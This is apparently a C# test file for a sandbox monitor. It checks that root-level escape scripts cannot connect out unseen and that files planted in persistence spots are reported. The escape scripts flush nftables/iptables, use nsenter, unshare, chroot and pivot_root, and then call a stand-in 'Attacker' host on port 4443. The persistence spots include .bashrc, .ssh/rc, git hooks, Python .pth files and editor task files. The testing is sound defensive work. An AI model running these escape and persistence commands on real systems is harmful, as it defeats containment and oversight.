namespace Sallyport.Kernel.Tests;

/// <summary>
/// R7, R9: the packet filter is emptied, namespaces and roots are changed, by root of the job, and then it calls out: no verdict changes.
/// R11: what lies in wait for somebody later is told, written, renamed, linked or mounted.
/// OUTSIDE is a process in the machine's own mount namespace.
/// </summary>
public sealed class RegainTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    [Theory]
    [EveryMode(
        "nft flush ruleset; CALL", "iptables -F; iptables -t nat -F; CALL", "nsenter -t OUTSIDE -m /proc/$$/rootCALL", "unshare -Ur CALL",
        "unshare -m sh -c 'mkdir -p /run/lab/work/root; mount --rbind / /run/lab/work/root; exec chroot /run/lab/work/root \"$@\"' sh CALL",
        "unshare -m sh -ec 'mkdir -p /run/lab/work/new; mount --rbind / /run/lab/work/new; cd /run/lab/work/new; mkdir -p run/lab/old; "
            + "mount --make-rprivate .; pivot_root . run/lab/old; exec chroot . \"$@\"' sh CALL")]
    public Task Nothing_that_root_turns_round_is_a_way_out(LabMode mode, string script) => ProveAsync(mode, new Attack
    {
        Command = Script($"{script} || true"
            .Replace("CALL", $"{Program("tcp")} connect {Attacker} 4443 {Canary}", StringComparison.Ordinal)
            .Replace("OUTSIDE", $"{Environment.ProcessId}", StringComparison.Ordinal)),
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "tcp",
        Silent = (Attacker, 4443),
    });

    private static readonly string[] s_places =
    [
        ".bashrc", ".profile", ".npmrc", ".config/systemd/user/x.service", ".git/hooks/post-checkout", ".claude/settings.json",
        ".vscode/tasks.json", ".local/lib/python3/site-packages/x.pth", ".local/lib/python3/site-packages/sitecustomize.py", ".ssh/rc",
    ];

    /// <summary>In a home folder; what lies below /etc is watched by the same code, and the test writes nothing there.</summary>
    [Theory]
    [InlineData("created", "echo x > FILE")]
    [InlineData("renamed", "echo x > other; mv other FILE")]
    [InlineData("created", "ln -s /bin/true FILE")]
    [InlineData("mounted", "touch FILE; mount --bind /dev/null FILE; mounted=\"$mounted FILE\"")]
    public async Task What_lies_in_wait_for_somebody_later_is_listed(string change, string script)
    {
        var run = await Lab.RunAsync(LabMode.Audit, Script([
            "mounted=; h=/run/lab/work/later-$$; mkdir -p $h; cd $h",
            .. s_places.Select(place => $"f=$h/{place}; mkdir -p ${{f%/*}}; {script.Replace("FILE", "$f", StringComparison.Ordinal)}"),
            "sleep 0.4; test -z \"$mounted\" || umount $mounted; cd /; rm -rf $h",
        ]));
        Assert.True(run.Process.ExitCode == 0, run.ToString());
        Assert.All(s_places, place => Assert.True(
            run.Report.Files.Any(row => row.Path.EndsWith("/" + place, StringComparison.Ordinal) && row.Change == change),
            $"{place}: {string.Join("; ", run.Report.Files.Select(row => $"{row.Change} {row.Path}"))}"));
    }
}
